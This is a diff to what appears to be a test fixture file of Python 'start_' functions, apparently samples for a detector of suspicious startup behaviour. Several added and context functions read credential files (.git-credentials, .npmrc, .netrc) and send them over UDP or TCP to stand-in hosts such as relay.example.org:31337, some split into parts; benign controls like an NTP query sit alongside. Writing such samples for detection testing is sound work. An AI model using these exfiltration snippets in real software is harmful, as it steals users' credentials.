@@ -104,6 +104,17 @@ def start_raw():
     s.sendall(b"HELO\x00" + secret(".git-credentials").encode())
     s.close()
 
+def start_datagram():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret(".git-credentials").encode(), ("192.0.2.9", 9999))
+
+def start_datagrams_in_parts():
+    s, text = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), secret(".npmrc").encode()
+    at = socket.getaddrinfo("relay.example.org", 31337, socket.AF_INET)[0][4]
+    s.sendmsg([text[:20], text[20:]], [], 0, at)
+
+def start_sleeps_on():
+    subprocess.Popen(["sleep", "600"], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
 def start_writes_copy():
     with open("/tmp/.cache-x", "w") as f:
         f.write(secret(".netrc"))
@@ -215,6 +226,16 @@ def start_counts_users():
 def start_reads_its_settings():
     if os.path.exists(".env"):
         open(".env").read()
+
+def start_asks_for_the_time():
+    at = socket.getaddrinfo("pool.ntp.org", 123, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\x1b" + 47 * b"\0", at)
+    except OSError:
+        pass
+
+def start_has_a_helper():
+    subprocess.Popen(["cat"], start_new_session=True, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
 
 def start_logs():
     print("INFO starting", file=sys.stderr)
